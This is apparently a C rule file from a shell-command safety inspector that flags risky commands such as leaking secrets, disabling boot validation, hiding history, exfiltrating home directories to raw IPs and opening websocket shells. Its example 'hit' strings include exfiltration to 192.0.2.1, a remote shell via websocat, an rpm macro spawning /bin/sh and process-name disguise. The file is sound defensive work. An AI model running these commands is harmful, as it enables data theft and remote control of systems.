/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ordinary programs of which one option or one place makes all the difference: it shows secrets, lifts a check,
 * wears another name, runs a script of somebody else as root, or sends and serves what is private.
 */
#include "inspect/shell/net.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <string.h>

#define GUISE_PRIVATE                                                                              \
	(PLACE(SECRET) | PLACE(SECRET_DIR) | PLACE(ENV_FILE) | PLACE(SHADOW) | PLACE(ACCOUNT) |    \
	 PLACE(BROWSER) | PLACE(WALLET) | PLACE(HISTORY) | PLACE(ENVIRON))

static bool guise_any(const struct shell_command *c, const char *words)
{
	for (size_t i = 1; i < c->n; i++)
		if (rule_is(words, c->argv[i].s))
			return true;
	return false;
}

/* ps eww: the environment of each process; ps -e is something else */
static bool guise_environment(const struct shell_model *m, const struct shell_command *c)
{
	const char *s = c->n > 1 ? c->argv[1].s : "";

	(void)m;
	return s[0] != '-' && strchr(s, 'e') && strspn(s, "aefglmrsuvwxjTXZ") == strlen(s) &&
	       strlen(s) > 1;
}

static bool guise_wireguard(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_is("showconf", rule_operand(c, 0)) ||
	       (strcmp(rule_operand(c, 0), "show") == 0 &&
		guise_any(c, "dump private-key private-keys preshared-keys"));
}

static bool guise_records_keys(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_is("test test-xi2", rule_operand(c, 0)) || rule_has(c, "--test|--test-xi2");
}

/* exec -a '[kworker]' x */
static bool guise_name(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->n > 3 && strcmp(c->argv[1].s, "-a") == 0;
}

/* ssh-keygen -p -N '': a key that needs no password from now on */
static bool guise_bare_key(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i + 1 < c->n; i++)
		if (strcmp(c->argv[i].s, "-N") == 0 && c->argv[i + 1].len == 0)
			return true;
	return false;
}

static bool guise_selinux(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "semanage") == 0)
		return rule_is("permissive login user", rule_operand(c, 0)) &&
		       rule_has(c, "-a|-d|-D|-m|--add|--delete");
	return rule_has(c, "-P") || c->via & VIA_ROOT;
}

static bool guise_trusted(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_has(c, "-A") && rule_says(c, "C,");
}

static bool guise_forgets(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "fc") == 0)
		return rule_has(c, "-p|-P") || guise_any(c, "/dev/null");
	return guise_any(c, "PROMPT_COMMAND");
}

/* A package of nobody, installed as root. */
static bool guise_installs(const struct shell_model *m, const struct shell_command *c)
{
	if (!(c->via & VIA_ROOT) || (c->via & VIA_CONTAINER))
		return false;
	for (size_t i = 1; i < c->n; i++)
		if (c->argv[i].s[0] == '/' && (rule_place(m, c, &c->argv[i]) & PLACE(TEMPORARY)))
			return true;
	return false;
}

/* %(command) and %{lua:…} */
static bool guise_macro(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "%(") || rule_says(c, "%{lua:");
}

static bool guise_parts(const struct shell_model *m, const struct shell_command *c)
{
	return rule_operands(m, c) & (PLACE(BINARY) | PLACE(TEMPORARY));
}

static bool guise_tex(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (c->via & VIA_ROOT) || rule_says(c, "write18");
}

static bool guise_asked(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "\\!") || rule_says(c, "COPY (SELECT");
}

/* Clients of ftp and its like that are told what to send. */
static bool guise_puts_text(const struct shell_model *m, const struct shell_command *c,
			    const char *text)
{
	while (text && *text) {
		size_t n = strcspn(text, " \t\n;");
		bool is_put = n > 0 && ((n == 3 && memcmp(text, "put", 3) == 0) ||
					(n == 4 && memcmp(text, "mput", 4) == 0) ||
					(n == 6 && memcmp(text, "mirror", 6) == 0 &&
					 strstr(text, "-R") != NULL));

		text += n;
		text += strspn(text, " \t\n;");
		while (is_put && *text) {
			char path[256];
			size_t len = strcspn(text, " \t\n;");

			if (len == 0 || len >= sizeof(path))
				break;
			memcpy(path, text, len);
			path[len] = '\0';
			if (place_of(m->context, path, c->cwd, false) &
			    (GUISE_PRIVATE | PLACE(HOME) | PLACE(TOP) | PLACE(ROOT) |
			     PLACE(HOME_BELOW) | PLACE(SYSTEM)))
				return true;
			if (text[len] == '\n' || text[len] == ';' || !text[len])
				break;
			text += len + 1;
		}
	}
	return false;
}

static bool guise_puts(const struct shell_model *m, const struct shell_command *c)
{
	if (c->in.s && guise_puts_text(m, c, c->in.s))
		return true;
	for (size_t i = 1; i < c->n; i++)
		if (strchr(c->argv[i].s, ' ') && guise_puts_text(m, c, c->argv[i].s))
			return true;
	return false;
}

/* A tree of a user or of the system, packed and sent to a machine that has only a number. */
static bool guise_is_number(const char *name)
{
	return *name && strspn(name, "0123456789.") == strlen(name) && strchr(name, '.');
}

static bool guise_packed(const struct shell_model *m, const struct shell_command *c)
{
	uint64_t place = 0;

	if (rule_is_local(m, c))
		return false;
	if (strcmp(c->name, "ssh") != 0) {
		bool has_number = false;

		for (size_t i = 0; i < c->n_hosts; i++)
			has_number = has_number || guise_is_number(c->hosts[i].name);
		for (size_t i = 1; i + 1 < c->n; i++)
			if (c->argv[i].s[0] != '-')
				place |= rule_place(m, c, &c->argv[i]);
		return has_number && strchr(c->argv[c->n - 1].s, ':') &&
		       (place & PLACE(HOME_BELOW));
	}
	for (const struct shell_command *d = m->commands; d < c && c->n_hosts > 0; d++)
		if (d->group == c->group && guise_is_number(c->hosts[0].name) &&
		    rule_is("mysqldump mariadb-dump pg_dump pg_dumpall mongodump", d->name))
			return true;
	for (const struct shell_command *d = m->commands; d < c; d++)
		if (d->group == c->group && rule_is("tar bsdtar gtar zip cpio", d->name))
			place |= d->operand_places;
	return place & (PLACE(HOME) | PLACE(TOP) | PLACE(ROOT) | PLACE(SECRET_DIR));
}

static bool guise_serves(const struct shell_model *m, const struct shell_command *c)
{
	return rule_operands(m, c) &
	       (PLACE(HOME) | PLACE(ROOT) | PLACE(TOP) | PLACE(SECRET_DIR) | PLACE(SYSTEM));
}

/* A backup of what is private, to a machine that is no repository of its owner. */
static bool guise_backs_up(const struct shell_model *m, const struct shell_command *c)
{
	/* nobody keeps a backup where anybody reads along */
	if (rule_says(c, "rest:http://") && !rule_says(c, "//localhost"))
		return true;
	return rule_says(c, "sftp:") &&
	       (rule_operands(m, c) & (PLACE(HOME) | PLACE(ROOT) | PLACE(TOP) | PLACE(SECRET_DIR)));
}

/* Names that vouch for a place are given another meaning. */
static bool guise_vouched(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 0; i < c->n_assigns; i++)
		if (str_starts(c->assigns[i].s, "TMPDIR=") || str_starts(c->assigns[i].s, "TMP=") ||
		    str_starts(c->assigns[i].s, "HOME=") || str_starts(c->assigns[i].s, "PWD="))
			return !(place_of(m->context, strchr(c->assigns[i].s, '=') + 1, NULL,
					  false) &
				 PLACE(TEMPORARY));
	return false;
}

/* Every file of a kind on the whole machine, shown or copied. */
static bool guise_gathers(const struct shell_model *m, const struct shell_command *c)
{
	uint64_t place = 0;

	for (size_t i = 1; i < c->n && !strchr("-(!", c->argv[i].s[0]); i++)
		place |= rule_place(m, c, &c->argv[i]);
	if (!(place & (PLACE(ROOT) | PLACE(HOME))))
		return false;
	for (size_t i = 1; i + 2 < c->n; i++)
		if (rule_is("-exec -execdir", c->argv[i].s)) {
			const char *next = c->argv[i + 1].s;

			if (rule_is("cat strings base64 xxd curl scp nc", next))
				return true;
			if (rule_is("cp mv tar zip", next) &&
			    (rule_operands(m, c) & PLACE(TEMPORARY)))
				return true;
			if (rule_is_shell(next) && i + 3 < c->n && strstr(c->argv[i + 3].s, "{}") &&
			    (strstr(c->argv[i + 3].s, "cat ") ||
			     strstr(c->argv[i + 3].s, "strings ") ||
			     strstr(c->argv[i + 3].s, "base64 ") ||
			     strstr(c->argv[i + 3].s, "head ")))
				return true;
		}
	return false;
}

/* dmidecode | grep -i virtual, grep hypervisor /proc/cpuinfo */
static bool guise_machine(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (guise_any(c, "/proc/cpuinfo"))
		return rule_says(c, "hypervisor") || rule_says(c, "qemu") || rule_says(c, "kvm-");
	if (!c->has_in || c == m->commands)
		return false;
	return rule_is("dmidecode lshw", c[-1].name) &&
	       (rule_says(c, "virtual") || rule_says(c, "kvm") || rule_says(c, "qemu") ||
		rule_says(c, "xen"));
}

static bool guise_accounts(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return !*rule_operand(c, 1) && !c->is_piped && m->n == 1;
}

/* -f list of clients: the connection to a shell */
static bool guise_websocket(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (str_starts(c->argv[i].s, "sh-c:") || str_starts(c->argv[i].s, "cmd:") ||
		    str_starts(c->argv[i].s, "exec:"))
			return true;
	return false;
}

#define ROW(kind, conf, lev) .type = FINDING_##kind, .level = THREAT_##lev, .confidence = conf

static const struct shell_rule guise_rows[] = {
	{.id = "CMD-READ-ENVIRONS",
	 .reason = "It shows the environment of every process.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "ps",
	 .test = guise_environment,
	 .hit = "ps eww -A",
	 .miss = "ps aux"},
	{.id = "CMD-WIFI-SECRETS",
	 .reason = "It shows the passwords of networks.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .programs = "nmcli",
	 .flags = "-s|--show-secrets",
	 .hit = "nmcli -s connection show home",
	 .miss = "nmcli connection show home"},
	{.id = "CMD-TUNNEL-KEYS",
	 .reason = "It shows the private key of a tunnel.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .programs = "wg",
	 .test = guise_wireguard,
	 .hit = "wg showconf wg0",
	 .miss = "wg show wg0"},
	{.id = "CMD-KEY-UNLOCK",
	 .reason = "It takes the password of a key away.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "ssh-keygen",
	 .flags = "-p",
	 .test = guise_bare_key,
	 .hit = "ssh-keygen -p -N '' -f k",
	 .miss = "ssh-keygen -t ed25519 -N '' -f k"},
	{.id = "CMD-KEYS-WATCH",
	 .reason = "It watches what is typed.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "xinput",
	 .test = guise_records_keys,
	 .hit = "xinput test 8",
	 .miss = "xinput list"},
	{.id = "CMD-NAME-BORROWED",
	 .reason = "It runs a program under another name.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "exec",
	 .test = guise_name,
	 .hit = "exec -a '[kworker/0:1]' ./m",
	 .miss = "exec ./m -a x"},
	{.id = "CMD-SELINUX-SET",
	 .reason = "It loosens what SELinux forbids.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "setsebool semanage",
	 .test = guise_selinux,
	 .hit = "semanage permissive -a httpd_t",
	 .miss = "semanage port -l"},
	{.id = "CMD-BOOT-CHECK-OFF",
	 .reason = "It changes which code the firmware lets boot.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "mokutil",
	 .flags = "--disable-validation|--import|--reset|--delete|--ignore-db|-i",
	 .hit = "mokutil --disable-validation",
	 .miss = "mokutil --sb-state"},
	{.id = "CMD-TRUST-STORE",
	 .reason = "It makes a browser trust a certificate authority.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "certutil",
	 .test = guise_trusted,
	 .hit = "certutil -A -n x -t C,, -i x.crt -d .",
	 .miss = "certutil -L -d ."},
	{.id = "CMD-HISTORY-ASIDE",
	 .reason = "It keeps commands out of the history, or out of sight of who records them.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "fc unset",
	 .test = guise_forgets,
	 .hit = "fc -p /dev/null",
	 .miss = "fc -l"},
	{.id = "CMD-ROOT-INSTALL",
	 .reason = "It installs something out of a temporary directory as root.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs =
		 "pip pip3 easy_install npm gem cpan cpanm composer make neofetch pdb pandoc run-parts node ansible-playbook "
		 "puppet php perl ruby lua",
	 .test = guise_installs,
	 .hit = "sudo pip install /tmp/x",
	 .miss = "sudo pip install requests"},
	{.id = "CMD-RPM-MACRO",
	 .reason = "It makes a package tool run a command.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "rpm rpmdb rpmquery rpmverify rpmbuild rpmspec",
	 .flags = "--eval|-E",
	 .test = guise_macro,
	 .hit = "rpm --eval '%{lua:os.execute(\"/bin/sh\")}'",
	 .miss = "rpm --eval '%{_libdir}'"},
	{.id = "CMD-RUN-PARTS",
	 .reason = "It runs every program of a directory that is no directory of jobs.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "run-parts",
	 .unless = "--test|--list",
	 .test = guise_parts,
	 .hit = "run-parts --regex '^sh$' /bin",
	 .miss = "run-parts /etc/cron.daily"},
	{.id = "CMD-TEX-SHELL",
	 .reason = "It lets a document run commands.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "tex latex pdflatex xelatex lualatex pdftex luatex xetex",
	 .flags = "-shell-escape|--shell-escape",
	 .test = guise_tex,
	 .hit = "sudo xelatex --shell-escape x",
	 .miss = "xelatex --shell-escape thesis.tex"},
	{.id = "CMD-CLIENT-SHELL",
	 .reason = "It opens a shell out of a client of a database.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "psql mysql mariadb",
	 .test = guise_asked,
	 .hit = "psql -c '\\!'",
	 .miss = "psql -c '\\d'"},
	{.id = "CMD-FTP-PUT",
	 .reason = "It sends private files away.",
	 ROW(DATA_LEAK, 0.6, MEDIUM),
	 .programs = "ftp sftp lftp ncftp ncftpput tftp smbclient cadaver psftp",
	 .test = guise_puts,
	 .hit = "sftp a.example <<< 'put .env'",
	 .miss = "sftp a.example <<< 'put report.pdf'"},
	{.id = "CMD-SEND-TREE",
	 .reason = "It sends a tree of private files to another machine.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "ssh scp rsync",
	 .test = guise_packed,
	 .hit = "tar czf - /home | ssh x@192.0.2.1 'cat > h.tgz'",
	 .miss = "tar czf - src | ssh build.example 'tar xzf -'"},
	{.id = "CMD-SERVE-PRIVATE",
	 .reason = "It serves a home directory or the system to whoever asks.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs =
		 "serve http-server live-server miniserve dufs goshs updog copyparty webfsd darkhttpd",
	 .test = guise_serves,
	 .hit = "npx serve ~",
	 .miss = "npx serve dist"},
	{.id = "CMD-BACKUP-AWAY",
	 .reason = "It copies private trees to another machine.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "restic",
	 .words = "backup",
	 .test = guise_backs_up,
	 .hit = "restic backup -r rest:http://192.0.2.1/x /root",
	 .miss = "restic backup -r /mnt/backup src"},
	{.id = "CMD-RM-VOUCHED",
	 .reason = "It gives a name of temporary files another meaning and deletes by it.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "rm srm shred",
	 .test = guise_vouched,
	 .hit = "TMPDIR=/srv rm -rf $TMPDIR/x",
	 .miss = "TMPDIR=/tmp/a rm -rf $TMPDIR/x"},
	{.id = "CMD-FIND-GATHER",
	 .reason = "It shows every file of a kind on the whole machine.",
	 ROW(DATA_LEAK, 0.35, LOW),
	 .programs = "find",
	 .test = guise_gathers,
	 .hit = "find / -name '*.conf' -exec sh -c 'cat {}' \\;",
	 .miss = "find . -name '*.conf' -exec cat {} \\;"},
	{.id = "CMD-FIND-VIRTUAL",
	 .reason = "It asks whether this is a virtual machine.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "grep egrep fgrep",
	 .test = guise_machine,
	 .hit = "grep -q hypervisor /proc/cpuinfo",
	 .miss = "grep -c processor /proc/cpuinfo"},
	{.id = "CMD-LIST-ACCOUNTS",
	 .reason = "It lists every account of this machine and of its directory.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "getent",
	 .words = "passwd|group",
	 .test = guise_accounts,
	 .hit = "getent passwd",
	 .miss = "getent passwd alice"},
	{.id = "CMD-WEBSOCKET-SHELL",
	 .reason = "It connects a program to the network.",
	 ROW(NETWORK_ACCESS, 0.6, MEDIUM),
	 .programs = "websocat",
	 .test = guise_websocket,
	 .hit = "websocat ws://192.0.2.1/ sh-c:'exec sh'",
	 .miss = "websocat ws://localhost:8080/"},
};

const struct shell_rules shell_rules_guise = {guise_rows,
					      sizeof(guise_rows) / sizeof(guise_rows[0])};
